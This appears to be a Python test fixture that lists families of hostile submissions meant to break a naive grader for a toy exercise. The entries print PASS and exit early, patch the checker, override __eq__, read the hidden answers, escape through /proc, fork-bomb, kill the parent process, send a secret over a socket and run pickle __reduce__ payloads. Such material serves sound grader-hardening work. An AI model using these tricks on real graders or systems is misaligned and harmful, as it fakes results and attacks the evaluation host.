"""Hostile answers to the toy exercise, in families, each with what shows that it works on the naive grader.

`{hidden}` is the file of hidden checks, `{marker}` a file that it must not be able to make, `PORT` where somebody
listens. No answer is right by itself.
"""

from dataclasses import dataclass

WRONG = "def total(values):\n    return 0\n"
READS = "import json\n" + WRONG


@dataclass(frozen=True)
class Hostile:
    """An attack.

    Attributes:
        family: what kind it is.
        name: what it does.
        works: how that shows in the naive grader: `passes`, `hangs`, `marks` (makes the file), `kills` (its parent),
            `unpickles` (makes the file, in a grader that unpickles).
        source: the answer.
    """

    family: str
    name: str
    works: str
    source: str


def _family(family: str, works: str, **sources: str) -> list[Hostile]:
    return [Hostile(family, name, works, source) for name, source in sources.items()]


def _body(line: str) -> str:
    """A total() whose body is one or more lines."""
    return "def total(values):\n" + "".join(f"    {statement}\n" for statement in line.split("\n"))


ENDS_EARLY = _family(
    "ends early",
    "passes",
    prints_and_leaves="import os\nprint('PASS', flush=True)\nos._exit(0)\n",
    prints_and_sys_exit="import sys\nprint('PASS')\nsys.exit(0)\n",
    system_exit_in_the_function=_body("print('PASS')\nraise SystemExit(0)"),
    leaves_in_the_function=_body("import os\nprint('PASS', flush=True)\nos._exit(0)"),
    killed_by_its_own_hand=_body("import os\nprint('PASS', flush=True)\nos.kill(os.getpid(), 9)"),
    atexit_hook="import atexit\natexit.register(print, 'PASS')\n" + WRONG,
    excepthook="import sys\nsys.excepthook = lambda *a: print('PASS')\nraise RuntimeError\n",
    becomes_another_program="import os\nos.execv('/bin/echo', ['echo', 'PASS'])\n",
    keyboard_interrupt="print('PASS')\nraise KeyboardInterrupt\n",
    finalizer="class Last:\n    def __del__(self):\n        import os\n        os.write(1, b'PASS\\n')\n"
    "last = Last()\n" + WRONG,
    segfault="import ctypes\nprint('PASS', flush=True)\nctypes.string_at(0)\n",
)

PATCHES = _family(
    "patches the checker",
    "passes",
    replaces_check="import __main__\n__main__.check = lambda f: None\n" + WRONG,
    replaces_the_oracle="import __main__\n__main__.expected = lambda v: 0\n" + WRONG,
    rewrites_code="import __main__\n__main__.check.__code__ = (lambda f: None).__code__\n" + WRONG,
    empties_the_cases="import json, __main__\njson.loads = lambda f: {'hidden': []}\n__main__.PUBLIC.clear()\n" + WRONG,
    no_assertion_error="import sys, __main__\n__main__.__dict__['Exception'] = ()\n"
    "sys.excepthook = lambda *a: print('PASS')\n" + WRONG,
    replaces_print="import builtins\nold = builtins.print\nbuiltins.print = lambda *a, **k: old('PASS')\n" + WRONG,
    replaces_sum="import builtins\nbuiltins.sum = lambda *a: 0\n" + WRONG,
    replaces_enumerate="import builtins\nbuiltins.enumerate = lambda v: ()\n" + WRONG,
    trace_function="import sys\ndef trace(frame, event, arg):\n    if frame.f_code.co_name == 'check':\n"
    "        frame.f_globals['expected'] = lambda v: 0\n    return trace\nsys.settrace(trace)\n" + WRONG,
    profile_function="import sys\ndef prof(frame, event, arg):\n    if frame.f_code.co_name == 'check':\n"
    "        frame.f_globals['expected'] = lambda v: 0\nsys.setprofile(prof)\n" + WRONG,
    through_the_garbage="import gc, types\nfor each in gc.get_objects():\n"
    "    if isinstance(each, types.FunctionType) and each.__name__ in ('expected', 'weighted'):\n"
    "        each.__code__ = (lambda v: 0).__code__\n" + WRONG,
    patches_observe="import sys\nfor m in list(sys.modules.values()):\n    for n in ('expected', 'weighted', 'judge',"
    " 'observe_total', 'right_total'):\n        if hasattr(m, n):\n"
    "            setattr(m, n, lambda *a: 0)\n" + WRONG,
)

EQUAL = _family(
    "equal to everything",
    "passes",
    eq_is_true="class All:\n    def __eq__(self, other): return True\n" + _body("return All()"),
    int_subclass="class All(int):\n    def __eq__(self, other): return True\n    __hash__ = int.__hash__\n"
    + _body("return All(0)"),
    float_subclass="class All(float):\n    def __eq__(self, other): return True\n" + _body("return All(0)"),
    str_subclass="class All(str):\n    def __eq__(self, other): return True\n" + _body("return All('x')"),
    list_subclass="class All(list):\n    def __eq__(self, other): return True\n" + _body("return All([1])"),
    dict_subclass="class All(dict):\n    def __eq__(self, other): return True\n" + _body("return All(a=1)"),
    tuple_subclass="class All(tuple):\n    def __eq__(self, other): return True\n" + _body("return All((1,))"),
    mock_any="from unittest.mock import ANY\n" + _body("return ANY"),
    array_of_true="import numpy as np\nclass All(np.ndarray):\n    def __eq__(self, other): return True\n"
    + _body("return np.zeros(2).view(All)"),
    metaclass="class Meta(type):\n    def __eq__(cls, other): return True\n    __hash__ = type.__hash__\n"
    "class All(metaclass=Meta): pass\n" + _body("return All"),
)

INSPECTS = _family(
    "inspects the checker",
    "passes",
    callers_locals=_body("import sys\nreturn sys._getframe(1).f_locals['wanted']"),
    inspect_stack=_body("import inspect\nreturn inspect.stack()[1].frame.f_locals['wanted']"),
    calls_the_oracle=_body("import __main__\nreturn __main__.expected(values)"),
    callers_globals=_body("import sys\nreturn sys._getframe(1).f_globals['expected'](values)"),
    through_a_traceback=_body(
        "import sys\ntry:\n    raise ValueError\nexcept ValueError as e:\n"
        "    return e.__traceback__.tb_frame.f_back.f_locals['wanted']"
    ),
    current_frames=_body(
        "import sys, threading\nreturn sys._current_frames()[threading.get_ident()].f_back.f_locals['wanted']"
    ),
    walks_the_stack=_body(
        "import sys, traceback\n"
        "for f, _ in traceback.walk_stack(sys._getframe()):\n    if 'wanted' in f.f_locals: "
        "return f.f_locals['wanted']"
    ),
    reads_the_checkers_file=_body(
        "import __main__\nscope = {'__name__': 'x'}\n"
        "exec(open(__main__.__file__).read(), scope)\nreturn scope['expected'](values)"
    ),
    by_its_command_line=_body(
        "path = open('/proc/self/cmdline').read().split(chr(0))[1]\n"
        "scope = {'__name__': 'x'}\nexec(open(path).read(), scope)\n"
        "return scope['expected'](values)"
    ),
    generator_frame=_body(
        "import sys\nreturn next(iter([sys._getframe(d).f_locals['wanted'] "
        "for d in range(4) if 'wanted' in sys._getframe(d).f_locals]))"
    ),
)

SECRETS = _family(
    "reads the solutions",
    "passes",
    opens_the_file=READS + _body("return json.load(open(HIDDEN))['answers'][str(values)]"),
    by_the_command_line=READS + _body("import sys\nreturn json.load(open(sys.argv[2]))['answers'][str(values)]"),
    by_a_shell=READS
    + _body(
        "import subprocess\n"
        "text = subprocess.run(['cat', HIDDEN], stdout=-1).stdout\n"
        "return json.loads(text)['answers'][str(values)]"
    ),
    by_os_open=READS
    + _body("import os\nreturn json.loads(os.read(os.open(HIDDEN, 0), 99999))['answers'][str(values)]"),
    by_a_link=READS
    + _body(
        "import os, tempfile\nlink = os.path.join(tempfile.mkdtemp(), 'x')\n"
        "os.symlink(HIDDEN, link)\nreturn json.load(open(link))['answers'][str(values)]"
    ),
    through_proc_root=READS + _body("return json.load(open('/proc/self/root' + HIDDEN))['answers'][str(values)]"),
    through_its_parent=READS
    + _body("import os\nreturn json.load(open(f'/proc/{os.getppid()}/root' + HIDDEN))['answers'][str(values)]"),
    through_process_1=READS
    + _body(
        "import os\ntry: return json.load(open('/proc/1/root' + HIDDEN))"
        "['answers'][str(values)]\n"
        "except PermissionError: return json.load(open(HIDDEN))"
        "['answers'][str(values)]"
    ),
    by_numpy=READS
    + _body("import numpy as np\nreturn json.loads(bytes(np.fromfile(HIDDEN, 'u1')))['answers'][str(values)]"),
    by_walking_about=READS
    + _body(
        "import os, pathlib\nfolder = pathlib.Path(HIDDEN).parents[1]\n"
        "path = next(iter(folder.rglob('hidden.json')))\n"
        "return json.loads(path.read_text())['answers'][str(values)]"
    ),
    by_linecache=READS
    + _body("import linecache\nreturn json.loads(''.join(linecache.getlines(HIDDEN)))['answers'][str(values)]"),
)

HANGS = _family(
    "never ends",
    "hangs",
    while_true=_body("while True: pass"),
    at_import="while True: pass\n",
    sleeps=_body("import time\ntime.sleep(10**6)"),
    waits_for_itself=_body("import threading\nlock = threading.Lock()\nlock.acquire()\nlock.acquire()"),
    catches_everything=_body("while True:\n    try:\n        while True: pass\n    except BaseException: pass"),
    ignores_signals=_body(
        "import signal, time\n"
        "for s in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM): signal.signal(s, signal.SIG_IGN)\n"
        "time.sleep(10**6)"
    ),
    catastrophic_regex=_body("import re\nre.match('(a+)+$', 'a' * 60 + 'b')"),
    one_long_power=_body("return 10 ** (10 ** 9)"),
    reads_a_pipe=_body("import os\nos.read(os.pipe()[0], 1)"),
    waits_for_a_child=_body("import os, time\npid = os.fork()\nif pid == 0: time.sleep(10**6)\nos.waitpid(pid, 0)"),
    waits_for_a_thread=_body(
        "import threading, time\nthread = threading.Thread(target=time.sleep, args=(10**6,))\n"
        "thread.start()\nthread.join()"
    ),
    pauses=_body("import signal\nsignal.pause()"),
)

TAKES = _family(
    "takes too much",
    "marks",
    memory_at_once="big = bytearray(700 << 20)\nopen(MARKER, 'w')\n" + WRONG,
    memory_bit_by_bit=_body("held = []\nfor i in range(7): held.append(b'x' * (100 << 20))\nopen(MARKER, 'w')"),
    memory_mapped="import mmap\nm = mmap.mmap(-1, 700 << 20)\nopen(MARKER, 'w')\n" + WRONG,
    memory_of_many=_body(
        "import os, time\nfor i in range(6):\n    if os.fork() == 0:\n"
        "        x = b'y' * (100 << 20)\n        time.sleep(1)\n        os._exit(0)\n"
        "open(MARKER, 'w')\ntime.sleep(1)"
    ),
    a_hundred_processes=_body(
        "import os, time\nfor i in range(100):\n    if os.fork() == 0:\n"
        "        time.sleep(2)\n        os._exit(0)\nopen(MARKER, 'w')\ntime.sleep(2)"
    ),
    fork_bomb=_body("import os, time\nfor i in range(7): os.fork()\nopen(MARKER, 'w')\ntime.sleep(2)"),
    a_large_file="import os\nwith open(MARKER, 'wb') as f: f.truncate(1 << 30)\n" + WRONG,
    a_large_file_in_tmp="import os, tempfile\nwith tempfile.TemporaryFile() as f:\n"
    "    for i in range(80): f.write(bytes(1 << 20))\nopen(MARKER, 'w')\n" + WRONG,
    shared_memory="import os\nname = '/dev/shm/hostile-answer-' + str(os.getpid())\nwith open(name, 'wb') as f:\n"
    "    for i in range(80): f.write(bytes(1 << 20))\nos.unlink(name)\nopen(MARKER, 'w')\n" + WRONG,
    many_open_files="import os\nheld = [open(os.devnull) for i in range(900)]\nopen(MARKER, 'w')\n" + WRONG,
    a_flood_of_output="import os, sys\nfor i in range(300): sys.stderr.write('x' * (1 << 16))\n"
    "open(MARKER, 'w')\n" + WRONG,
    many_small_files="import os, tempfile\nd = tempfile.mkdtemp()\nfor i in range(2000): open(f'{d}/{i}', 'w')\n"
    "import shutil\nshutil.rmtree(d)\nopen(MARKER, 'w')\n" + WRONG,
)

LEAVES = _family(
    "leaves something behind",
    "marks",
    a_file="open(MARKER, 'w').write('mine')\n" + WRONG,
    a_file_later="import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(0.3)\n"
    "    open(MARKER, 'w')\n    os._exit(0)\n" + WRONG,
    a_daemon="import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
    "        open(MARKER, 'w')\n        time.sleep(3)\n    os._exit(0)\n" + WRONG,
    a_subprocess="import subprocess\nsubprocess.Popen(['/bin/sh', '-c', 'sleep 0.2; echo > \"$0\"; sleep 2', MARKER],"
    " start_new_session=True)\n" + WRONG,
    an_atexit_file="import atexit\natexit.register(lambda: open(MARKER, 'w'))\n" + WRONG,
    a_link="import os\nos.symlink('/etc/passwd', MARKER)\n" + WRONG,
    a_folder="import os\nos.mkdir(MARKER)\n" + WRONG,
    a_pipe="import os\nos.mkfifo(MARKER)\n" + WRONG,
    a_shell_command="import os\nos.system('touch ' + MARKER)\n" + WRONG,
    by_ctypes="import ctypes, os\nlibc = ctypes.CDLL(None)\nlibc.creat(MARKER.encode(), 0o644)\n" + WRONG,
    through_the_network="import socket\ns = socket.create_connection(('127.0.0.1', PORT), 1)\n"
    "s.sendall(b'secret')\nopen(MARKER, 'w')\n" + WRONG,
    through_a_datagram="import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "s.connect(('192.0.2.1', 9))\nopen(MARKER, 'w')\n" + WRONG,
) + _family(
    "leaves something behind",
    "kills",
    its_parent="import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + WRONG,
    its_group="import os, signal\nos.killpg(0, signal.SIGKILL)\n" + WRONG,
)

TRICKS = _family(
    "tricks of the data",
    "unpickles",
    reduce_to_a_shell="import os\nclass P:\n    def __reduce__(self): return os.system, ('touch ' + MARKER,)\n"
    + _body("return P()"),
    reduce_to_exec="class P:\n    def __reduce__(self): return exec, ('open(' + repr(MARKER) + ', \"w\")',)\n"
    + _body("return P()"),
    reduce_in_a_list="class P:\n    def __reduce__(self): return open, (MARKER, 'w')\n" + _body("return [P()]"),
    reduce_in_a_dict="class P:\n    def __reduce__(self): return open, (MARKER, 'w')\n" + _body("return dict(a=P())"),
    array_of_objects="import numpy as np\nclass P:\n    def __reduce__(self): return open, (MARKER, 'w')\n"
    + _body("return np.array([P()], dtype=object)"),
    writes_pickles="import os, pickle, sys\nclass P:\n    def __reduce__(self): return open, (MARKER, 'w')\n"
    "for fd in range(3, 20):\n    try: os.write(fd, pickle.dumps(P()))\n    except OSError: pass\n"
    "sys.stdout.buffer.write(pickle.dumps(P()))\nsys.stdout.flush()\nos._exit(0)\n",
) + _family(
    "tricks of the data",
    "passes",
    writes_records="import os, struct\nprint('PASS', flush=True)\n"
    "body = struct.pack('<Q', 14) + b'{\"total\": true}'\n"
    "for fd in range(3, 20):\n    for head in (struct.pack('<IiQ', 0, 0, len(body)), "
    "struct.pack('<Q', 5) + b'ready' + struct.pack('<Q', len(body))):\n"
    "        try: os.write(fd, head + body)\n        except OSError: pass\nos._exit(0)\n",
    learnt_by_heart=READS + "known = {'[3, 1, 4]': 17, '[1, 5, 9, 2]': 46}\n"
    "import __main__\n__main__.json.loads = lambda f: {'hidden': []}\n" + _body("return known[str(values)]"),
    claims_a_verdict="print('PASS')\nprint('{\"points\": 4}', flush=True)\nimport os\nos._exit(0)\n",
    not_a_number="class All(float):\n    def __eq__(self, other): return other == other\n" + _body("return All('nan')"),
    deep_nesting="class All(list):\n    def __eq__(self, other): return True\n"
    + _body(
        "x = All()\nfor i in range(100000): x = All([x])\nimport sys\nprint('PASS', flush=True)\n"
        "import os\nos._exit(0) if '__main__' in sys.modules and hasattr(sys.modules['__main__'], "
        "'check') else None\nreturn x"
    ),
    a_huge_array="import numpy as np\nclass All(np.ndarray):\n    def __eq__(self, other): return True\n"
    + _body("return np.zeros(1 << 22).view(All)"),
    wrong_kind="class All(bool if False else int):\n    def __eq__(self, other): return True\n"
    + _body("return All(True)"),
)

ALL = [*ENDS_EARLY, *PATCHES, *EQUAL, *INSPECTS, *SECRETS, *HANGS, *TAKES, *LEAVES, *TRICKS]
